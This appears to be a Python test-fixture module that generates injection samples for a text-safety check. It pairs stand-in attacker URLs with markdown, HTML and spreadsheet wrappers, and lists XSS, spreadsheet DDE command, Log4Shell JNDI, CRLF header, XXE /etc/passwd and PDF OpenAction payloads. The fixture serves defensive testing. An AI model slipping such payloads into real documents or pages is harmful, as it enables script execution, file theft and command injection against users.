"""Text that would do something if it were taken for more than text (CHECK 18)."""

from itertools import cycle, islice, product

_TARGETS = [
    "https://evil.example/a.png", "http://evil.example/?q=1", "//evil.example/x", "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "vbscript:msgbox(1)", "ftp://evil.example/x",
    "\\\\evil.example\\share", "JaVaScRiPt:alert(1)", "mailto:a@evil.example", "tel:+4912345", "ms-word:ofe|u|http://evil.example",
]  # fmt: skip
_FORMS = [
    "![picture]({0})", "[click]({0})", "[click]({0} \"title\")", "<{0}>", "<img src={0}>", "<a href=\"{0}\">click</a>",
    "[ref]: {0}", "[[{0}]]", "<iframe src='{0}'></iframe>", "![][{0}]", "<svg onload=fetch('{0}')>", "{0}",
    "=HYPERLINK(\"{0}\",\"click\")", "@SUM(1+1)*cmd|' /C {0}'!A0", "<!--{0}-->", "<style>@import '{0}'</style>",
]  # fmt: skip
_OTHERS = [
    "<script>alert(1)</script>", "$$\\href{javascript:alert(1)}{x}$$", "$\\includegraphics{https://evil.example}$",
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@x", "\t=1+1", "# heading", "---", "***", "```js\nalert(1)\n```", "| a | b |",
    "|---|---|", "> quote", "1. one", "1) one", "===", "&lt;script&gt;", "&#106;avascript:alert(1)", "a\x00b\x07c\x1bd",
    "\u202egnp.exe", "\u200b\u2066hidden\u2069", "{{contract.arr}}", "{% include 'x' %}", "${jndi:ldap://evil.example/a}",
    "%0d%0aSet-Cookie: a=b", "\\input{/etc/passwd}", "~~gone~~", "==mark==", "^[note]", ":::warning", "<details open>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "]]></w:t>", "_x0041_", "\ud800",
    "<a:hlinkClick r:id='rId1'/>", "/URI (javascript:alert(1))", "(x) Tj ET /OpenAction", "endstream endobj",
]  # fmt: skip


def samples(count: int) -> list[str]:
    """Return so many different samples: each of the others, then forms with targets, every form early."""
    forms = [form.format(target) for target, form in _woven()]
    return list(islice(dict.fromkeys([*forms[: count - len(_OTHERS)], *_OTHERS]), count))


def _woven() -> list[tuple[str, str]]:
    """Pair forms and targets so that neighbours differ in both."""
    pairs = list(product(_TARGETS, _FORMS))
    steps = cycle([len(_FORMS) + 1])
    order, at = [], 0
    for step, _ in zip(steps, pairs, strict=False):
        order.append(at % len(pairs))
        at += step
    return [pairs[at] for at in dict.fromkeys([*order, *range(len(pairs))])]
